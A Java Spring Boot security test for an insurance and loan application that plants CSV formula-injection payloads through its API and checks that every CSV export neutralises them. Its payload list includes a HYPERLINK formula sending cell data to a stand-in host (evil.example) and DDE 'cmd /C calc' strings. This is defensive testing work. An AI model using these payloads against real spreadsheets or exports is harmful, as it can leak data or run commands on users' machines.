package id.lindung.redteam;

import static org.assertj.core.api.Assertions.assertThat;

import id.lindung.access.authz.Endpoints;
import id.lindung.shared.tabular.CsvWriter;
import id.lindung.support.ApiClient;
import id.lindung.support.ApiFixtures;
import id.lindung.support.Niks;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.ApplicationContext;
import org.springframework.test.context.ActiveProfiles;

/**
 * Issue 16, point 4, from the attacker's side: spreadsheet formulas put into every text a user or a file can make
 * reach a CSV export — a KUR bank file's borrower names, branches, sectors, loan ids and bad values (which the error
 * report repeats), payment references (one by one and in a bank file), participant names — through the real API,
 * then every CSV export downloaded over HTTP and parsed as RFC 4180: no cell may start with {@code =}, {@code +},
 * {@code -}, {@code @}, tab or CR unless it is a number Lindung wrote. The exports are read from Spring MVC's
 * mappings: a new {@code .csv} endpoint without a case here fails {@link #everyCsvExportIsAttacked}.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
@ActiveProfiles("test")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class FormulaInjectionAttackTest {

    static final List<String> PAYLOADS = List.of(
            "=HYPERLINK(\"http://evil.example/?\"&A1;\"klik\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=2+2",
            "=1+1;=2+2",
            "\"=3+3\"");
    private static final Pattern NUMBER = Pattern.compile("-?\\d+(,\\d+)?");
    private static final String DESA = "61.04.01.2011";

    @LocalServerPort
    int port;

    @Autowired
    ApplicationContext context;

    /** The path of each CSV export (by its mapping key), with the entities the payloads went into. */
    private final Map<String, String> exports = new LinkedHashMap<>();
    /** Exports where a payload must arrive (neutralised): proof that the attack reached them. */
    private final Set<String> carriers = new TreeSet<>();
    /** Exports that repeat a payload inside a sentence of ours (the error report's reasons). */
    private final Set<String> echoes = new TreeSet<>();

    @BeforeAll
    void plantPayloads() {
        ApiClient officer = ApiClient.as(port, "petugas.kalbar");

        // 1. a KUR bank file: payloads in every free-text column, and as bad values the error report repeats
        StringBuilder file =
                new StringBuilder("bank;branch;loan_id;nik;name;scheme;plafond;disbursed_on;sector;" + "region_code\n");
        long run = System.nanoTime() % 1_000_000;
        for (int i = 0; i < PAYLOADS.size(); i++) {
            String p = PAYLOADS.get(i);
            String nik = Niks.nik("610401", LocalDate.of(1980, 1, 1).plusDays(run % 3000 + i), i % 2 == 0);
            file.append(String.join(
                            ";",
                            "KALBAR",
                            quote(p),
                            "RT-F-" + run + "-" + i,
                            nik,
                            quote(p),
                            "MIKRO",
                            "20000000",
                            "2026-10-01",
                            quote(p),
                            "61.04.01"))
                    .append('\n');
            // refused rows: the bad value comes back in the error report
            file.append(String.join(
                            ";",
                            quote(p),
                            "Ketapang",
                            quote(p),
                            nik,
                            "Budi",
                            quote(p),
                            quote(p),
                            quote(p),
                            "Tani",
                            quote(p)))
                    .append('\n');
        }
        ApiClient.Response kur = officer.postMultipart(
                "/api/kur/files",
                Map.of(),
                "file",
                "kur.csv",
                file.toString().getBytes(StandardCharsets.UTF_8),
                "text/csv");
        assertThat(kur.status()).as(kur.text()).isEqualTo(201);
        long kurFile = kur.json().path("fileId").asLong();
        assertThat(kur.json().path("rejected").asLong()).as(kur.text()).isPositive();

        // 2. a participant named like a formula cannot even be registered (names start with a letter)...
        LocalDate birth = LocalDate.of(1979, 2, 14).plusDays(run % 3000);
        for (String p : PAYLOADS) {
            ApiClient.Response refused = officer.post(
                    "/api/participants",
                    ApiFixtures.worker(
                            Niks.nik("610401", birth.minusDays(4000), false), p, birth.minusDays(4000), "L", DESA));
            assertThat(refused.status()).as(p + " as a name: " + refused.text()).isEqualTo(422);
        }
        // ...so a participant with an ordinary name, enrolled, pays with formula references
        ApiClient.Response participant =
                ApiFixtures.register(officer, Niks.nik("610401", birth, false), "Yohanes Rumus", birth, "L", DESA);
        long participantId = participant.json().path("participant").path("id").asLong();
        ApiClient.Response membership = officer.post(
                "/api/memberships", ApiFixtures.bpu(participantId, 1_000_000, "2026-12", "channel", "AGENT"));
        assertThat(membership.status()).as(membership.text()).isEqualTo(201);
        long membershipId = membership.json().path("id").asLong();
        for (int i = 0; i < 3; i++) {
            ApiClient.Response paid = officer.post(
                    "/api/payments",
                    ApiFixtures.payment(
                            "RT-F-" + run + "-" + i,
                            membershipId,
                            10_000,
                            "2026-12-0" + (i + 1),
                            "reference",
                            PAYLOADS.get(i)));
            assertThat(paid.status()).as(paid.text()).isIn(200, 201);
        }
        // bank files allow only letters, digits and . _ / : - in a reference: still enough for a formula
        String bankFile = "reference;membership_id;amount;paid_on\n-A1/A2;" + membershipId + ";10000;2026-12-04\n";
        ApiClient.Response applied = ApiClient.as(port, "admin")
                .postMultipart(
                        "/api/payment-files",
                        Map.of(),
                        "file",
                        "bank.csv",
                        bankFile.getBytes(StandardCharsets.UTF_8),
                        "text/csv");
        assertThat(applied.status()).as(applied.text()).isIn(200, 201);

        exports.put("GET /kur/peminjam.csv", "/kur/peminjam.csv?bank=KALBAR");
        exports.put("GET /kur/konversi.csv", "/kur/konversi.csv?kelompok=bank");
        exports.put("GET /api/kur/files/{id}/errors.csv", "/api/kur/files/" + kurFile + "/errors.csv");
        exports.put("GET /kepesertaan/{id}/rekening.csv", "/kepesertaan/" + membershipId + "/rekening.csv");
        exports.put("GET /peserta/ekspor.csv", "/peserta/ekspor.csv?name=Rumus");
        exports.put("GET /klaim/ekspor.csv", "/klaim/ekspor.csv");
        exports.put("GET /cakupan/penyebut/contoh.csv", "/cakupan/penyebut/contoh.csv");
        // the bank's own paymentRequestId and referenceNo reach this one: SnapPagesTest pays with formulas in them
        exports.put("GET /iuran/snap/rekonsiliasi.csv", "/iuran/snap/rekonsiliasi.csv");
        carriers.addAll(List.of("GET /kur/peminjam.csv", "GET /kepesertaan/{id}/rekening.csv"));
        echoes.add("GET /api/kur/files/{id}/errors.csv");
    }

    @Test
    void everyCsvExportIsAttacked() {
        Set<String> csv = Endpoints.of(context).stream()
                .filter(e -> e.pattern().endsWith(".csv"))
                .map(Endpoints.Endpoint::key)
                .collect(Collectors.toCollection(TreeSet::new));
        assertThat(new TreeSet<>(exports.keySet()))
                .as("CSV exports of the application: add a case for a new one")
                .isEqualTo(csv);
    }

    @Test
    void noCellOfAnyCsvExportStartsWithAFormula() {
        ApiClient officer = ApiClient.as(port, "petugas.kalbar");
        List<String> failures = new ArrayList<>();
        for (Map.Entry<String, String> export : exports.entrySet()) {
            var answer = officer.getBytes(export.getValue());
            assertThat(answer.statusCode()).as(export.getValue()).isEqualTo(200);
            String text = new String(answer.body(), StandardCharsets.UTF_8);
            List<List<String>> rows = parse(text.startsWith("\uFEFF") ? text.substring(1) : text);
            int neutralised = 0;
            for (int r = 0; r < rows.size(); r++) {
                for (String cell : rows.get(r)) {
                    if (!cell.isEmpty()
                            && CsvWriter.formulaStart(cell.charAt(0))
                            && !NUMBER.matcher(cell).matches()) {
                        failures.add(export.getKey() + " row " + (r + 1) + ": " + cell);
                    }
                    if (PAYLOADS.stream().anyMatch(p -> cell.equals("'" + p) || cell.equals("'" + p.strip()))) {
                        neutralised++;
                    }
                }
            }
            if (echoes.contains(export.getKey()) && PAYLOADS.stream().noneMatch(p -> text.contains(p.strip()))) {
                failures.add(export.getKey() + ": no payload echoed, so the attack proved nothing");
            }
            if (carriers.contains(export.getKey()) && neutralised == 0) {
                failures.add(export.getKey() + ": no payload arrived, so the attack proved nothing");
            }
        }
        assertThat(failures).isEmpty();
    }

    /** RFC 4180 with ';' as the separator: quoted fields may hold the separator, quotes ("") and line breaks. */
    static List<List<String>> parse(String text) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        boolean any = false;
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    cell.append(c);
                }
            } else if (c == '"' && cell.isEmpty()) {
                quoted = true;
                any = true;
            } else if (c == ';') {
                row.add(cell.toString());
                cell.setLength(0);
            } else if (c == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n' || c == '\n') {
                if (c == '\r') {
                    i++;
                }
                row.add(cell.toString());
                rows.add(row);
                row = new ArrayList<>();
                cell.setLength(0);
            } else {
                cell.append(c);
                any = true;
            }
        }
        if (any && (!cell.isEmpty() || !row.isEmpty())) {
            row.add(cell.toString());
            rows.add(row);
        }
        return rows;
    }

    @Test
    void theParserOfThisTestSeesAnUnprotectedFormula() {
        // the check above must be able to fail: a raw formula, quoted or not, is a cell starting with '='
        assertThat(parse("a;=1+1\r\n\"=2+2\";\"x;y\"\r\n"))
                .containsExactly(List.of("a", "=1+1"), List.of("=2+2", "x;y"));
    }

    private static String quote(String value) {
        return "\"" + value.replace("\"", "\"\"") + "\"";
    }
}
